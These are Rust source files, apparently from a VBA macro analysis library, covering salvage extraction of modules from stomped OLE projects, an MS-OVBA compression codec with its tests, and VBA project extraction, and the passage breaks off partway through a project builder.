