//! Salvage extraction for damaged VBA projects (olevba's "stomped / corrupt
//! container" fallback).
//!
//! When the `dir` stream is unreadable — VBA stomping, a truncated project,
//! a deliberately corrupted directory — the module *source* often still
//! sits in the file as intact MS-OVBA compressed containers. Salvage mode
//! scans raw bytes for container signatures (0x01 followed by a chunk
//! header whose signature bits are 0b011), decompresses best-effort, and
//! keeps whatever looks like VBA text.

use crate::compression::decompress_salvage_budgeted;
use crate::dir::ModuleType;
use crate::project::{OvbaLimits, VbaModule};
use crate::OvbaError;
use vbadet_faultpoint::Budget;
use vbadet_metrics::Counter;
use vbadet_ole::OleFile;

/// Minimum decompressed size for a salvaged blob to count as a module
/// (mirrors the paper's 150-byte short-macro preprocessing floor).
const MIN_SALVAGE_BYTES: usize = 32;

/// Whether a decompressed blob plausibly is VBA source rather than one of
/// the binary project streams (`dir`, `_VBA_PROJECT`…): mostly printable,
/// with at least one telltale keyword.
fn looks_like_vba(text: &[u8]) -> bool {
    let printable = text
        .iter()
        .filter(|&&b| matches!(b, b'\r' | b'\n' | b'\t') || (0x20..0x7F).contains(&b))
        .count();
    if printable * 10 < text.len() * 9 {
        return false;
    }
    let head: String = text
        .iter()
        .take(4096)
        .map(|&b| (b as char).to_ascii_lowercase())
        .collect();
    [
        "attribute vb_",
        "sub ",
        "function ",
        "dim ",
        "end sub",
        "end function",
    ]
    .iter()
    .any(|k| head.contains(k))
}

/// Scans `data` for embedded compressed containers and returns every blob
/// that decompresses cleanly and looks like VBA source. `origin` labels the
/// recovered modules (a stream path, or `""` for a raw buffer).
pub fn salvage_modules_from_bytes(
    data: &[u8],
    origin: &str,
    limits: &OvbaLimits,
) -> Vec<VbaModule> {
    salvage_modules_from_bytes_budgeted(data, origin, limits, &Budget::unlimited())
        .expect("unlimited budget cannot trip")
}

/// Like [`salvage_modules_from_bytes`] but charges the byte scan (one fuel
/// unit per KiB) and each chunk decode against a cooperative scan
/// [`Budget`].
///
/// # Errors
///
/// Returns [`OvbaError::DeadlineExceeded`] when the budget trips; malformed
/// containers are skipped quietly as in the unbudgeted version.
pub fn salvage_modules_from_bytes_budgeted(
    data: &[u8],
    origin: &str,
    limits: &OvbaLimits,
    budget: &Budget,
) -> Result<Vec<VbaModule>, OvbaError> {
    budget.metrics().count(Counter::OvbaSalvageScans, 1);
    let mut out = Vec::new();
    let mut i = 0usize;
    // Charge per KiB of scanned input; `next_toll` is the scan position at
    // which the next fuel unit is due.
    let mut next_toll = 1024usize;
    while i + 3 <= data.len() && out.len() < limits.max_modules {
        if i >= next_toll {
            budget.charge(1)?;
            next_toll = i + 1024;
        }
        let header = u16::from_le_bytes([data[i + 1], data[i + 2]]);
        if data[i] != 0x01 || (header >> 12) & 0b111 != 0b011 {
            i += 1;
            continue;
        }
        budget.metrics().count(Counter::OvbaSalvageCandidates, 1);
        match decompress_salvage_budgeted(&data[i..], limits.max_module_bytes, budget)? {
            Some((blob, consumed)) if blob.len() >= MIN_SALVAGE_BYTES => {
                if looks_like_vba(&blob) {
                    let name = if origin.is_empty() {
                        format!("salvaged_{}", out.len() + 1)
                    } else {
                        format!("salvaged_{}#{}", out.len() + 1, origin)
                    };
                    budget.metrics().count(Counter::OvbaSalvageModules, 1);
                    out.push(VbaModule {
                        name,
                        code: blob.iter().map(|&b| b as char).collect(),
                        module_type: ModuleType::Procedural,
                    });
                }
                i += consumed.max(1);
            }
            _ => i += 1,
        }
    }
    Ok(out)
}

/// Salvages modules from every stream of a parsed compound file. Used when
/// the project's `dir` stream or records cannot be parsed; streams that fail
/// to read are skipped rather than aborting the salvage pass.
pub fn salvage_modules_from_ole(ole: &OleFile, limits: &OvbaLimits) -> Vec<VbaModule> {
    salvage_modules_from_ole_budgeted(ole, limits, &Budget::unlimited())
        .expect("unlimited budget cannot trip")
}

/// Like [`salvage_modules_from_ole`] but budgeted. Every per-stream scan
/// charges through [`salvage_modules_from_bytes_budgeted`], and the
/// cross-stream dedup — quadratic in the recovered module count, with each
/// comparison linear in module size — charges one fuel unit per comparison,
/// so a crafted corpus of many near-identical long modules trips the budget
/// instead of stalling the scan.
///
/// # Errors
///
/// Returns [`OvbaError::DeadlineExceeded`] when the budget trips.
pub fn salvage_modules_from_ole_budgeted(
    ole: &OleFile,
    limits: &OvbaLimits,
    budget: &Budget,
) -> Result<Vec<VbaModule>, OvbaError> {
    let mut out: Vec<VbaModule> = Vec::new();
    for path in ole.stream_paths()? {
        if out.len() >= limits.max_modules {
            break;
        }
        let stream = match ole.open_stream(&path) {
            Ok(stream) => stream,
            // A budget trip mid-read must abort the pass; any other read
            // failure just skips this stream.
            Err(vbadet_ole::OleError::DeadlineExceeded(why)) => return Err(why.into()),
            Err(_) => continue,
        };
        for module in salvage_modules_from_bytes_budgeted(&stream, &path, limits, budget)? {
            if out.len() >= limits.max_modules {
                break;
            }
            // A module recovered from two aliased streams is kept once.
            let mut duplicate = false;
            for seen in &out {
                budget.charge(1)?;
                if seen.code == module.code {
                    duplicate = true;
                    break;
                }
            }
            if !duplicate {
                out.push(module);
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::compression::compress;
    use crate::project::VbaProjectBuilder;

    const CODE: &str =
        "Attribute VB_Name = \"Module1\"\r\nSub Payload()\r\n    MsgBox \"x\"\r\nEnd Sub\r\n";

    #[test]
    fn recovers_module_from_raw_buffer_with_garbage() {
        let mut buf = vec![0xAB; 137];
        buf.extend_from_slice(&compress(CODE.as_bytes()));
        buf.extend(std::iter::repeat_n(0xCD, 64));
        let found = salvage_modules_from_bytes(&buf, "", &OvbaLimits::default());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].code, CODE);
        assert!(found[0].name.starts_with("salvaged_"));
    }

    #[test]
    fn recovers_modules_when_dir_stream_is_stomped() {
        let mut b = VbaProjectBuilder::new("P");
        b.add_module("Module1", CODE);
        let bin = b.build().unwrap();
        // Stomp the dir stream: the strict parser must fail, salvage must
        // still find the module source in VBA/Module1.
        let mut ole_builder = vbadet_ole::OleBuilder::new();
        let parsed = OleFile::parse(&bin).unwrap();
        for path in parsed.stream_paths().unwrap() {
            let data = parsed.open_stream(&path).unwrap();
            if path == "VBA/dir" {
                ole_builder
                    .add_stream(&path, &vec![0xFF; data.len()])
                    .unwrap();
            } else {
                ole_builder.add_stream(&path, &data).unwrap();
            }
        }
        let stomped = OleFile::parse(&ole_builder.build()).unwrap();
        assert!(crate::VbaProject::from_ole(&stomped).is_err());
        let found = salvage_modules_from_ole(&stomped, &OvbaLimits::default());
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].code, CODE);
        assert!(found[0].name.contains("VBA/Module1"));
    }

    #[test]
    fn binary_streams_are_not_reported_as_modules() {
        // A compressed container holding binary junk decompresses fine but
        // must be filtered by the looks-like-VBA check.
        let junk: Vec<u8> = (0u16..600).map(|i| (i % 251) as u8).collect();
        let buf = compress(&junk);
        assert!(salvage_modules_from_bytes(&buf, "", &OvbaLimits::default()).is_empty());
    }

    #[test]
    fn truncated_container_yields_clean_prefix_or_nothing() {
        let packed = compress(CODE.as_bytes());
        for cut in [1, 2, 5, packed.len() / 2, packed.len() - 1] {
            // Must not panic; any recovered text must be a prefix of CODE.
            for m in salvage_modules_from_bytes(&packed[..cut], "", &OvbaLimits::default()) {
                assert!(CODE.starts_with(&m.code));
            }
        }
    }
}
