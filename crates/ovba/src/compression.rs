//! MS-OVBA §2.4.1 *CompressedContainer* codec.
//!
//! The container is a 0x01 signature byte followed by chunks. Each chunk
//! encodes up to 4096 decompressed bytes and is decompressed independently
//! (copy tokens never reach back past the chunk start). Chunk data is a
//! series of token sequences: one flag byte followed by eight tokens, where a
//! clear flag bit means a literal byte and a set bit a 16-bit copy token
//! whose offset/length split depends on how far into the chunk the output
//! position is.

use crate::OvbaError;
use vbadet_faultpoint::{faultpoint, Budget};
use vbadet_metrics::Counter;

/// Decompressed bytes per chunk.
const CHUNK: usize = 4096;
/// Maximum value of the 12-bit chunk-size field.
const MAX_SIZE_FIELD: usize = 0x0FFF;

/// Computes the copy-token bit split at decompressed chunk offset `d`:
/// returns `(offset_bit_count, length_mask, offset_mask)`.
fn copy_token_split(d: usize) -> (u32, u16, u16) {
    debug_assert!(d >= 1);
    // Smallest b with 2^b >= d, clamped to 4..=12.
    let mut bit_count = 4u32;
    while (1usize << bit_count) < d {
        bit_count += 1;
    }
    let bit_count = bit_count.min(12);
    let length_mask = 0xFFFFu16 >> bit_count;
    let offset_mask = !length_mask;
    (bit_count, length_mask, offset_mask)
}

/// Decompresses an MS-OVBA compressed container.
///
/// # Errors
///
/// Returns an error when the signature byte, a chunk header, or a copy token
/// is malformed, or when the container is truncated.
///
/// ```
/// use vbadet_ovba::{compress, decompress};
/// let data = b"Attribute VB_Name = \"Module1\"\r\nSub A()\r\nEnd Sub\r\n";
/// assert_eq!(decompress(&compress(data)).unwrap(), data);
/// ```
pub fn decompress(container: &[u8]) -> Result<Vec<u8>, OvbaError> {
    decompress_with_limit(container, DEFAULT_MAX_DECOMPRESSED)
}

/// Default output cap for [`decompress`]: far above any real macro source,
/// low enough that a crafted container cannot exhaust memory.
pub const DEFAULT_MAX_DECOMPRESSED: usize = 1 << 28;

/// Like [`decompress`] but with a caller-provided output cap; exceeding it
/// returns [`OvbaError::LimitExceeded`].
pub fn decompress_with_limit(container: &[u8], limit: usize) -> Result<Vec<u8>, OvbaError> {
    decompress_budgeted(container, limit, &Budget::unlimited())
}

/// Like [`decompress_with_limit`] but also charges decompression work
/// against a cooperative scan [`Budget`] (one fuel unit per chunk).
///
/// # Errors
///
/// As [`decompress_with_limit`], plus [`OvbaError::DeadlineExceeded`] when
/// the budget trips.
pub fn decompress_budgeted(
    container: &[u8],
    limit: usize,
    budget: &Budget,
) -> Result<Vec<u8>, OvbaError> {
    faultpoint!("ovba::decompress", Err(OvbaError::TruncatedContainer));
    let (&sig, mut rest) = container
        .split_first()
        .ok_or(OvbaError::TruncatedContainer)?;
    if sig != 0x01 {
        return Err(OvbaError::BadContainerSignature(sig));
    }
    budget.metrics().count(Counter::OvbaDecompressCalls, 1);
    let mut out = Vec::new();
    while !rest.is_empty() {
        budget.charge(1)?;
        budget.metrics().count(Counter::OvbaChunks, 1);
        if rest.len() < 2 {
            return Err(OvbaError::TruncatedContainer);
        }
        let header = u16::from_le_bytes([rest[0], rest[1]]);
        let size_field = (header & 0x0FFF) as usize;
        let compressed = header & 0x8000 != 0;
        if (header >> 12) & 0b111 != 0b011 {
            return Err(OvbaError::BadChunkSignature(header));
        }
        let data_len = size_field + 3 - 2; // total chunk = field + 3 incl. header
        if rest.len() < 2 + data_len {
            return Err(OvbaError::TruncatedContainer);
        }
        let data = &rest[2..2 + data_len];
        rest = &rest[2 + data_len..];

        let chunk_start = out.len();
        if !compressed {
            // Raw chunk: 4096 literal bytes.
            out.extend_from_slice(data);
        } else {
            decompress_chunk(data, &mut out, chunk_start)?;
        }
        if out.len() - chunk_start > CHUNK {
            return Err(OvbaError::ChunkOverflow);
        }
        if out.len() > limit {
            return Err(OvbaError::LimitExceeded {
                what: "decompressed container",
                limit,
            });
        }
    }
    budget
        .metrics()
        .count(Counter::OvbaBytesOut, out.len() as u64);
    Ok(out)
}

/// Best-effort decompression for salvage mode: decodes chunks from the start
/// of `container` until the data ends or a chunk fails to decode, returning
/// whatever decompressed cleanly plus the number of input bytes consumed (or
/// `None` when nothing decoded). Unlike [`decompress`], trailing garbage
/// after valid chunks is not an error — exactly the situation when a
/// compressed container is found embedded at an arbitrary offset of a
/// damaged stream.
pub fn decompress_salvage(container: &[u8], limit: usize) -> Option<(Vec<u8>, usize)> {
    decompress_salvage_budgeted(container, limit, &Budget::unlimited()).unwrap_or(None)
}

/// Like [`decompress_salvage`] but charges one fuel unit per decoded chunk
/// against a cooperative scan [`Budget`].
///
/// # Errors
///
/// Returns [`OvbaError::DeadlineExceeded`] when the budget trips; all other
/// decode problems end the salvage quietly (`Ok(None)` / a short prefix),
/// exactly as in [`decompress_salvage`].
pub fn decompress_salvage_budgeted(
    container: &[u8],
    limit: usize,
    budget: &Budget,
) -> Result<Option<(Vec<u8>, usize)>, OvbaError> {
    let Some((&sig, _)) = container.split_first() else {
        return Ok(None);
    };
    if sig != 0x01 {
        return Ok(None);
    }
    let mut consumed = 1usize;
    let mut out = Vec::new();
    while container.len() - consumed >= 2 {
        budget.charge(1)?;
        budget.metrics().count(Counter::OvbaChunks, 1);
        let rest = &container[consumed..];
        let header = u16::from_le_bytes([rest[0], rest[1]]);
        if (header >> 12) & 0b111 != 0b011 {
            break;
        }
        let size_field = (header & 0x0FFF) as usize;
        let compressed = header & 0x8000 != 0;
        let data_len = size_field + 1;
        if rest.len() < 2 + data_len {
            break;
        }
        let data = &rest[2..2 + data_len];
        let chunk_start = out.len();
        if !compressed {
            out.extend_from_slice(data);
        } else if decompress_chunk(data, &mut out, chunk_start).is_err() {
            out.truncate(chunk_start);
            break;
        }
        if out.len() - chunk_start > CHUNK || out.len() > limit {
            out.truncate(chunk_start);
            break;
        }
        consumed += 2 + data_len;
    }
    if out.is_empty() {
        Ok(None)
    } else {
        Ok(Some((out, consumed)))
    }
}

fn decompress_chunk(
    mut data: &[u8],
    out: &mut Vec<u8>,
    chunk_start: usize,
) -> Result<(), OvbaError> {
    while !data.is_empty() {
        let (&flags, rest) = data.split_first().expect("checked non-empty");
        data = rest;
        for bit in 0..8 {
            if data.is_empty() {
                return Ok(());
            }
            if out.len() - chunk_start >= CHUNK {
                // Fully decoded; remaining bytes would overflow the chunk.
                return if data.is_empty() {
                    Ok(())
                } else {
                    Err(OvbaError::ChunkOverflow)
                };
            }
            if flags & (1 << bit) == 0 {
                out.push(data[0]);
                data = &data[1..];
            } else {
                if data.len() < 2 {
                    return Err(OvbaError::TruncatedContainer);
                }
                let token = u16::from_le_bytes([data[0], data[1]]);
                data = &data[2..];
                let d = out.len() - chunk_start;
                if d == 0 {
                    return Err(OvbaError::BadCopyToken {
                        offset: 0,
                        position: out.len(),
                    });
                }
                let (bit_count, length_mask, offset_mask) = copy_token_split(d);
                let length = (token & length_mask) as usize + 3;
                let offset = ((token & offset_mask) >> (16 - bit_count)) as usize + 1;
                if offset > out.len() {
                    return Err(OvbaError::BadCopyToken {
                        offset,
                        position: out.len(),
                    });
                }
                if out.len() - chunk_start + length > CHUNK {
                    return Err(OvbaError::ChunkOverflow);
                }
                let src = out.len() - offset;
                for k in 0..length {
                    let byte = out[src + k];
                    out.push(byte);
                }
            }
        }
    }
    Ok(())
}

/// Compresses `data` into an MS-OVBA compressed container.
///
/// Each 4096-byte input chunk is LZ77-coded; if the coded form would exceed
/// the chunk-size field's capacity, a full chunk falls back to a raw chunk
/// and a partial (final) chunk is split in half and retried.
pub fn compress(data: &[u8]) -> Vec<u8> {
    let mut out = vec![0x01u8];
    if data.is_empty() {
        return out;
    }
    let mut start = 0usize;
    while start < data.len() {
        let end = (start + CHUNK).min(data.len());
        emit_chunk(&data[start..end], &mut out);
        start = end;
    }
    out
}

fn emit_chunk(chunk: &[u8], out: &mut Vec<u8>) {
    let coded = compress_chunk(chunk);
    // Header-allowed maximum data length: field 0x0FFF -> 4096 data bytes.
    let max_data = MAX_SIZE_FIELD + 3 - 2;
    if coded.len() <= max_data {
        let size_field = (coded.len() + 2 - 3) as u16;
        let header = 0x8000 | 0x3000 | size_field;
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(&coded);
    } else if chunk.len() == CHUNK {
        // Raw chunk: exactly 4096 literal bytes, flag bit clear.
        let header = 0x3000 | (MAX_SIZE_FIELD as u16);
        out.extend_from_slice(&header.to_le_bytes());
        out.extend_from_slice(chunk);
    } else {
        // Incompressible partial chunk whose token form does not fit: split
        // it so each piece's worst-case coded size fits the header field.
        let mid = chunk.len() / 2;
        emit_chunk(&chunk[..mid], out);
        emit_chunk(&chunk[mid..], out);
    }
}

/// LZ77-codes a single chunk (without the header).
fn compress_chunk(chunk: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(chunk.len() + chunk.len() / 8 + 2);
    // Positions of 3-byte sequences seen so far, chained (most recent first).
    const HASH_BITS: usize = 12;
    const HASH_SIZE: usize = 1 << HASH_BITS;
    const MAX_CHAIN: usize = 64;
    let hash = |i: usize| -> usize {
        let h = (chunk[i] as u32) | ((chunk[i + 1] as u32) << 8) | ((chunk[i + 2] as u32) << 16);
        (h.wrapping_mul(0x9E37_79B1) >> (32 - HASH_BITS as u32)) as usize
    };
    let mut head = vec![usize::MAX; HASH_SIZE];
    let mut prev = vec![usize::MAX; chunk.len()];

    let mut i = 0usize;
    while i < chunk.len() {
        let mut flags = 0u8;
        let flag_pos = out.len();
        out.push(0);
        for bit in 0..8 {
            if i >= chunk.len() {
                break;
            }
            // Current split given d = i bytes already decoded.
            let (mut best_len, mut best_off) = (0usize, 0usize);
            if i >= 1 && i + 3 <= chunk.len() {
                let (_, length_mask, _) = copy_token_split(i);
                let max_len = ((length_mask as usize) + 3).min(chunk.len() - i);
                let mut cand = head[hash(i)];
                let mut steps = 0usize;
                while cand != usize::MAX && steps < MAX_CHAIN {
                    let off = i - cand;
                    // Offset must be encodable: <= d (cannot reach before
                    // chunk start) — always true since cand >= 0.
                    let mut len = 0usize;
                    while len < max_len && chunk[cand + len] == chunk[i + len] {
                        len += 1;
                    }
                    if len > best_len {
                        best_len = len;
                        best_off = off;
                        if len == max_len {
                            break;
                        }
                    }
                    cand = prev[cand];
                    steps += 1;
                }
            }
            if best_len >= 3 {
                let (bit_count, length_mask, _) = copy_token_split(i);
                let token = (((best_off - 1) as u16) << (16 - bit_count))
                    | ((best_len - 3) as u16 & length_mask);
                flags |= 1 << bit;
                out.extend_from_slice(&token.to_le_bytes());
                let end = (i + best_len).min(chunk.len().saturating_sub(2));
                for j in i..end {
                    prev[j] = head[hash(j)];
                    head[hash(j)] = j;
                }
                i += best_len;
            } else {
                if i + 3 <= chunk.len() {
                    prev[i] = head[hash(i)];
                    head[hash(i)] = i;
                }
                out.push(chunk[i]);
                i += 1;
            }
        }
        out[flag_pos] = flags;
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn roundtrip(data: &[u8]) {
        let packed = compress(data);
        let unpacked = decompress(&packed)
            .unwrap_or_else(|e| panic!("decompress failed for {} bytes: {e}", data.len()));
        assert_eq!(unpacked, data);
    }

    #[test]
    fn hand_assembled_container_decodes() {
        // Container built by hand from the wire format rules:
        // input "abcabcabc" = literals a,b,c then a copy token at d=3
        // (bit_count 4): offset 3 -> high nibble (3-1)<<12, length 6 -> 6-3.
        // Token 0x2003 LE = 03 20; flag byte 0b0000_1000 marks token #3.
        // Coded data is 6 bytes; size field = 6 + 2 - 3 = 5; header
        // 0x8000|0x3000|5 = 0xB005 LE = 05 B0.
        let container = [0x01, 0x05, 0xB0, 0x08, 0x61, 0x62, 0x63, 0x03, 0x20];
        assert_eq!(decompress(&container).unwrap(), b"abcabcabc");
        roundtrip(b"abcabcabc");
        roundtrip(b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaaaaaaaaaaa");
    }

    #[test]
    fn empty_input() {
        assert_eq!(compress(b""), vec![0x01]);
        assert_eq!(decompress(&[0x01]).unwrap(), b"");
    }

    #[test]
    fn small_inputs() {
        roundtrip(b"a");
        roundtrip(b"ab");
        roundtrip(b"abc");
        roundtrip(b"aaaa");
        roundtrip(b"Sub Test()\r\nEnd Sub\r\n");
    }

    #[test]
    fn chunk_boundary_sizes() {
        for size in [4095usize, 4096, 4097, 8191, 8192, 8193] {
            let data: Vec<u8> = (0..size).map(|i| ((i / 3) % 251) as u8).collect();
            roundtrip(&data);
        }
    }

    #[test]
    fn vba_like_text() {
        let module = "Attribute VB_Name = \"Module1\"\r\n".to_string()
            + &"Sub Process()\r\n    Dim x As Integer\r\n    x = x + 1\r\nEnd Sub\r\n".repeat(400);
        roundtrip(module.as_bytes());
        // Text compresses well.
        let packed = compress(module.as_bytes());
        assert!(packed.len() * 3 < module.len());
    }

    #[test]
    fn incompressible_full_chunks_fall_back_to_raw() {
        let mut state = 0xACE1u64;
        let data: Vec<u8> = (0..CHUNK * 3)
            .map(|_| {
                state ^= state << 13;
                state ^= state >> 7;
                state ^= state << 17;
                state as u8
            })
            .collect();
        let packed = compress(&data);
        assert_eq!(decompress(&packed).unwrap(), data);
        // Raw fallback bounds expansion to header overhead.
        assert!(packed.len() <= data.len() + 1 + 3 * 2 + 16);
    }

    #[test]
    fn incompressible_partial_final_chunk() {
        // 3641..4095 incompressible bytes cannot fit one coded chunk; the
        // encoder must split rather than pad.
        let mut state = 77u64;
        for size in [3000usize, 3641, 3900, 4095] {
            let data: Vec<u8> = (0..size)
                .map(|_| {
                    state = state.wrapping_mul(6364136223846793005).wrapping_add(1);
                    (state >> 33) as u8
                })
                .collect();
            roundtrip(&data);
        }
    }

    #[test]
    fn long_runs_use_copy_tokens() {
        let data = vec![b'x'; 4000];
        let packed = compress(&data);
        assert!(
            packed.len() < 64,
            "run-length data should be tiny, got {}",
            packed.len()
        );
        assert_eq!(decompress(&packed).unwrap(), data);
    }

    #[test]
    fn bad_signature_rejected() {
        assert!(matches!(
            decompress(&[0x02]),
            Err(OvbaError::BadContainerSignature(0x02))
        ));
        assert!(matches!(
            decompress(&[]),
            Err(OvbaError::TruncatedContainer)
        ));
    }

    #[test]
    fn bad_chunk_signature_rejected() {
        // Header with signature bits 0b000.
        let container = [0x01, 0x05, 0x80, 0, 0, 0];
        assert!(matches!(
            decompress(&container),
            Err(OvbaError::BadChunkSignature(_))
        ));
    }

    #[test]
    fn truncated_chunk_rejected() {
        let mut packed = compress(b"some data worth compressing, repeated repeated");
        packed.truncate(packed.len() - 3);
        assert!(decompress(&packed).is_err());
    }

    #[test]
    fn copy_token_before_start_rejected() {
        // Chunk whose first token is a copy (flag bit 0 set) — no history.
        // Data = flag byte + 2-byte token = 3 bytes; size field = 3+2-3 = 2.
        let container = [0x01, 0x02, 0xB0, 0x01, 0x00, 0x00];
        assert!(matches!(
            decompress(&container),
            Err(OvbaError::BadCopyToken { .. })
        ));
    }

    #[test]
    fn garbage_never_panics() {
        let mut state = 424242u64;
        for len in [1usize, 2, 3, 8, 64, 300] {
            for _ in 0..100 {
                let mut data: Vec<u8> = (0..len)
                    .map(|_| {
                        state ^= state << 13;
                        state ^= state >> 7;
                        state ^= state << 17;
                        state as u8
                    })
                    .collect();
                data[0] = 0x01; // valid signature, garbage body
                let _ = decompress(&data);
            }
        }
    }

    #[test]
    fn split_boundaries_match_spec_table() {
        // MS-OVBA §2.4.1.3.19.3: difference -> bit count.
        for (d, expect) in [
            (1usize, 4u32),
            (16, 4),
            (17, 5),
            (32, 5),
            (33, 6),
            (1024, 10),
            (2048, 11),
            (4096, 12),
        ] {
            assert_eq!(copy_token_split(d).0, expect, "d={d}");
        }
    }
}
