//! Whole-project extraction and synthesis.

use crate::compression::{compress, decompress_budgeted};
use crate::dir::{DirStream, ModuleRecord, ModuleType};
use crate::OvbaError;
use vbadet_faultpoint::Budget;
use vbadet_metrics::Stage;
use vbadet_ole::{OleBuilder, OleFile};

/// Resource caps applied while extracting a VBA project.
///
/// Overruns surface as [`OvbaError::LimitExceeded`] rather than unbounded
/// allocation from attacker-controlled counts and compressed streams.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OvbaLimits {
    /// Maximum number of modules in one project.
    pub max_modules: usize,
    /// Maximum decompressed size of one module's source.
    pub max_module_bytes: usize,
    /// Maximum decompressed size of the `dir` stream.
    pub max_dir_bytes: usize,
}

impl Default for OvbaLimits {
    fn default() -> Self {
        OvbaLimits {
            max_modules: 1024,
            max_module_bytes: 1 << 24,
            max_dir_bytes: 1 << 22,
        }
    }
}

/// One extracted VBA module.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VbaModule {
    /// Module name from the `dir` stream.
    pub name: String,
    /// Decompressed source code (code page decoded).
    pub code: String,
    /// Procedural vs document module.
    pub module_type: ModuleType,
}

/// An extracted VBA project: project metadata plus all module sources.
///
/// This is the olevba-equivalent: given an OLE compound file (a legacy
/// `.doc`/`.xls` or a `vbaProject.bin`), it locates the `VBA` storage,
/// decompresses the `dir` stream, and decompresses every module's source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct VbaProject {
    /// Project name.
    pub name: String,
    /// Path of the storage containing the `VBA` storage (empty for
    /// `vbaProject.bin`, `"Macros"` for Word, `"_VBA_PROJECT_CUR"` for Excel).
    pub root: String,
    /// All modules with their decompressed source code.
    pub modules: Vec<VbaModule>,
}

/// Storage roots probed when locating a VBA project.
const KNOWN_ROOTS: [&str; 3] = ["", "Macros", "_VBA_PROJECT_CUR"];

impl VbaProject {
    /// Extracts the VBA project from a parsed compound file, probing the
    /// well-known storage roots.
    ///
    /// # Errors
    ///
    /// Returns [`OvbaError::NoVbaProject`] when no `VBA/dir` stream exists,
    /// or a decoding error when the project structures are malformed.
    pub fn from_ole(ole: &OleFile) -> Result<Self, OvbaError> {
        Self::from_ole_with_limits(ole, &OvbaLimits::default())
    }

    /// Like [`VbaProject::from_ole`] under explicit resource limits.
    ///
    /// # Errors
    ///
    /// In addition to the errors of [`VbaProject::from_ole`], returns
    /// [`OvbaError::LimitExceeded`] when the project exceeds the module
    /// count or decompressed-size caps in `limits`.
    pub fn from_ole_with_limits(ole: &OleFile, limits: &OvbaLimits) -> Result<Self, OvbaError> {
        Self::from_ole_budgeted(ole, limits, &Budget::unlimited())
    }

    /// Like [`VbaProject::from_ole_with_limits`] but charges decompression
    /// work against a cooperative scan [`Budget`].
    ///
    /// # Errors
    ///
    /// As [`VbaProject::from_ole_with_limits`], plus
    /// [`OvbaError::DeadlineExceeded`] when the budget trips.
    pub fn from_ole_budgeted(
        ole: &OleFile,
        limits: &OvbaLimits,
        budget: &Budget,
    ) -> Result<Self, OvbaError> {
        for root in KNOWN_ROOTS {
            let dir_path = join(root, "VBA/dir");
            if ole.exists(&dir_path) {
                return Self::from_ole_at_budgeted(ole, root, limits, budget);
            }
        }
        // Fallback: search any stream path ending in `VBA/dir`.
        for path in ole.stream_paths()? {
            if let Some(root) = path.strip_suffix("/VBA/dir") {
                return Self::from_ole_at_budgeted(ole, root, limits, budget);
            }
            if path == "VBA/dir" {
                return Self::from_ole_at_budgeted(ole, "", limits, budget);
            }
        }
        Err(OvbaError::NoVbaProject)
    }

    /// Extracts the VBA project under a specific storage root.
    ///
    /// # Errors
    ///
    /// Fails when the `dir` stream or a module stream is missing or
    /// malformed.
    pub fn from_ole_at(ole: &OleFile, root: &str) -> Result<Self, OvbaError> {
        Self::from_ole_at_with_limits(ole, root, &OvbaLimits::default())
    }

    /// Like [`VbaProject::from_ole_at`] under explicit resource limits.
    ///
    /// # Errors
    ///
    /// As [`VbaProject::from_ole_at`], plus [`OvbaError::LimitExceeded`].
    pub fn from_ole_at_with_limits(
        ole: &OleFile,
        root: &str,
        limits: &OvbaLimits,
    ) -> Result<Self, OvbaError> {
        Self::from_ole_at_budgeted(ole, root, limits, &Budget::unlimited())
    }

    /// Like [`VbaProject::from_ole_at_with_limits`] but budgeted.
    ///
    /// # Errors
    ///
    /// As [`VbaProject::from_ole_at_with_limits`], plus
    /// [`OvbaError::DeadlineExceeded`] when the budget trips.
    pub fn from_ole_at_budgeted(
        ole: &OleFile,
        root: &str,
        limits: &OvbaLimits,
        budget: &Budget,
    ) -> Result<Self, OvbaError> {
        let _t = budget.metrics().time(Stage::OvbaProjectNs);
        let dir_bytes = ole
            .open_stream(&join(root, "VBA/dir"))
            .map_err(|e| match e {
                vbadet_ole::OleError::DeadlineExceeded(why) => why.into(),
                _ => OvbaError::NoVbaProject,
            })?;
        let dir = DirStream::parse(&decompress_budgeted(
            &dir_bytes,
            limits.max_dir_bytes,
            budget,
        )?)?;
        if dir.modules.len() > limits.max_modules {
            return Err(OvbaError::LimitExceeded {
                what: "module count",
                limit: limits.max_modules,
            });
        }

        let mut modules = Vec::with_capacity(dir.modules.len());
        for record in &dir.modules {
            let stream_name = if record.stream_name.is_empty() {
                &record.name
            } else {
                &record.stream_name
            };
            let stream_path = join(root, &format!("VBA/{stream_name}"));
            let stream = ole.open_stream(&stream_path).map_err(|e| match e {
                vbadet_ole::OleError::DeadlineExceeded(why) => why.into(),
                _ => OvbaError::MissingModuleStream(stream_name.clone()),
            })?;
            let offset = record.text_offset as usize;
            if offset > stream.len() {
                return Err(OvbaError::BadModuleOffset {
                    module: record.name.clone(),
                    offset: record.text_offset,
                    stream_len: stream.len(),
                });
            }
            let source = decompress_budgeted(&stream[offset..], limits.max_module_bytes, budget)?;
            modules.push(VbaModule {
                name: record.name.clone(),
                code: source.iter().map(|&b| b as char).collect(),
                module_type: record.module_type,
            });
        }
        Ok(VbaProject {
            name: dir.name,
            root: root.to_string(),
            modules,
        })
    }
}

fn join(root: &str, rest: &str) -> String {
    if root.is_empty() {
        rest.to_string()
    } else {
        format!("{root}/{rest}")
    }
}

/// Builds a `vbaProject.bin`-compatible OLE compound file from module
/// sources. Used by the synthetic corpus so that the extraction pipeline is
/// tested against real container bytes.
///
/// ```
/// use vbadet_ovba::{VbaProject, VbaProjectBuilder};
/// # fn main() -> Result<(), Box<dyn std::error::Error>> {
/// let mut b = VbaProjectBuilder::new("Project1");
/// b.add_module("ThisDocument", "Sub Document_Open()\r\nEnd Sub\r\n")
///     .document_module("ThisDocument");
/// let ole = vbadet_ole::OleFile::parse(&b.build()?)?;
/// let project = VbaProject::from_ole(&ole)?;
/// assert_eq!(project.name, "Project1");
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct VbaProjectBuilder {
    name: String,
    modules: Vec<(String, String, ModuleType)>,
}

impl VbaProjectBuilder {
